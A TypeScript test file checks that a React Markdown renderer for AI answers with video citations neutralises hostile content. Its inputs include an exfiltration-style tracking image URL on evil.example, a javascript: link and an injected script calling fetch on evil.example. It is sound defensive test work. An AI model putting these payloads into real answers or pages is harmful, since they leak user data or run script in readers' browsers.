import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { citationResolver } from '../../../shared/citations';
import { Markdown } from './markdown';

const OWN_VIDEO = 'https://www.youtube.com/watch?v=dQw4w9WgXcQ';
const citations = citationResolver({ url: OWN_VIDEO, title: 'Pricing talk' }, [
  { number: 2, youtubeUrl: 'https://www.youtube.com/watch?v=aaaaaaaaaaa', title: 'Second video' },
]);

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text, citations }));

describe('an answer’s Markdown', () => {
  it('never renders an image: it becomes a link naming its host', () => {
    const html = render('See ![the chart](https://evil.example/pixel.png?leak=profile) here');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/pixel.png?leak=profile"');
    expect(html).toContain('Image: the chart <span class="text-muted-foreground">(evil.example)</span>');
  });

  it('shows an image inside a link as words, without nesting links', () => {
    const html = render('[![x](https://evil.example/a.png)](https://evil.example/b)');
    expect(html).not.toContain('<img');
    expect(html.match(/<a /g)).toHaveLength(1);
    expect(html).toContain('Image: x (evil.example)');
  });

  it('draws only the consultation’s own citations as citations; a disguised one shows its host', () => {
    const html = render('At [01:15] and [V2 0:30], not [01:15](https://evil.example/cite) nor [V3 1:00]');
    expect(html).toContain(
      '<a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ&amp;t=75s" target="_blank" rel="noopener noreferrer" class="font-medium text-primary',
    );
    expect(html).toContain('aria-label="Second video at 00:30"');
    expect(html).toContain('01:15 <span class="text-muted-foreground">(evil.example)</span>');
    expect(html).not.toMatch(/href="https:\/\/evil\.example\/cite"[^>]*text-primary/);
    expect(html).toContain('[V3 1:00]');
  });

  it('names the real host of a link whatever its words say, and drops non-web links and raw HTML', () => {
    const html = render(
      '[https://www.youtube.com/watch?v=dQw4w9WgXcQ](https://evil.example/x) [mail](mailto:a@b.c) [js](javascript:alert(1)) <script>fetch("https://evil.example/s")</script><img src="https://evil.example/i.png">',
    );
    expect(html).toContain('(evil.example)</span>');
    expect(html).not.toContain('mailto:');
    expect(html).not.toContain('javascript:');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).toContain('fetch(&quot;https://evil.example/s&quot;)</p>'); // words, never a script
  });
});
